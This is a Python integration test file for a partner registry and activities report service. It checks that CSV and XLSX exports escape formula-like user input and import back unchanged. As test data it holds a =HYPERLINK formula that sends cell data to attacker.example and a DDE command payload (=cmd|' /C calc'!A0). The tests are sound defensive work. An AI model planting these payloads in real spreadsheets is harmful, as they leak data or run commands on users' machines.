"""Spreadsheets the services write hold no live formula (issue 11, point 3), against the real
store: what users typed — a partner's name, an activity's title — is text in an XLSX file and
starts no CSV cell with a formula character; the partner registry reads its exports back unchanged.

A cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is a formula to Excel and LibreOffice
when a CSV is opened; ``=HYPERLINK(...)`` sends whatever the sheet shows to another site when clicked.
"""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from tests.conftest import auth, make_settings, running
from tests.integration.test_activities_helpers import plan
from tests.integration.test_partners_api import register
from tests.integration.test_partners_import import comparable, upload

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://attacker.example/?d="&B2,"Lihat data mitra")'
COMMAND = "=cmd|' /C calc'!A0"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def formulas(content: bytes) -> list[str]:
    """Every cell of every sheet of an XLSX file that is a formula (the file as it is, not as computed)."""
    book = load_workbook(io.BytesIO(content))
    found = [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
             if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found += [name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]
    return found


async def test_a_partner_named_like_a_formula_is_exported_as_text_and_imported_back_unchanged(settings, servers,
                                                                                             run_id, unique):
    async with running("partners", settings) as (_, source):
        await register(source, {
            "name": LINK, "type": "lainnya", "categories": ["@komunitas"],
            "contacts": [{"name": "-Dewi", "role": "+Koordinator", "phone": "+62 813-1111-2222"}],
            "notes": "\tdaftar hadir terlampir",
        })
        original = (await source.get("/partners", headers=auth("viewer"))).json()["items"]
        files = {fmt: (await source.get("/partners/export", headers=auth("viewer"), params={"format": fmt})).content
                 for fmt in ("csv", "xlsx")}
    assert original[0]["name"] == LINK and original[0]["contacts"][0]["phone"] == "+6281311112222"

    header, row = csv_rows(files["csv"])
    assert [cell for cell in row if cell.startswith(FORMULA_START)] == []
    cell = dict(zip(header, row, strict=True))
    assert cell["nama"] == "'" + LINK and cell["kontak1_telepon"] == "'+6281311112222"
    assert cell["kategori"] == "'@komunitas" and cell["kontak1_nama"] == "'-Dewi"

    assert formulas(files["xlsx"]) == []
    sheet = load_workbook(io.BytesIO(files["xlsx"]))["Mitra"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (LINK, "s")

    for fmt, exported in files.items():
        async with running("partners", make_settings(servers, f"{run_id}{unique}{fmt}")) as (_, target):
            report = await upload(target, exported, f"mitra.{fmt}")
            assert (report["created"], report["errors"]) == (1, []), fmt
            copy = (await target.get("/partners", headers=auth("viewer"))).json()["items"]
            assert comparable(copy) == comparable(original), fmt


async def test_the_activities_report_holds_no_formula_in_either_format(settings):
    async with running("activities", settings) as (_, client):
        await plan(client, election="pemilu-2019", title=COMMAND, description="+ dana desa",
                   speakers=[{"name": "@narasumber", "affiliation": "-"}],
                   location={"district": "32.73.02", "venue": "=1+1"})
        answers = {fmt: await client.get("/reports/activities", headers=auth("viewer"),
                                         params={"election": "pemilu-2019", "format": fmt}) for fmt in ("csv", "xlsx")}
    assert {fmt: answer.status_code for fmt, answer in answers.items()} == {"csv": 200, "xlsx": 200}

    header, row = csv_rows(answers["csv"].content)
    assert [cell for cell in row if cell.startswith(FORMULA_START)] == []
    cell = dict(zip(header, row, strict=True))
    assert cell["Judul kegiatan"] == "'" + COMMAND and cell["Tempat"] == "'=1+1"
    assert cell["Narasumber"] == "'@narasumber (-)"

    assert formulas(answers["xlsx"].content) == []
    sheet = load_workbook(io.BytesIO(answers["xlsx"].content))["Kegiatan"]
    titles = [(cell.value, cell.data_type) for cell in sheet["E"][1:]]
    assert titles == [(COMMAND, "s")]
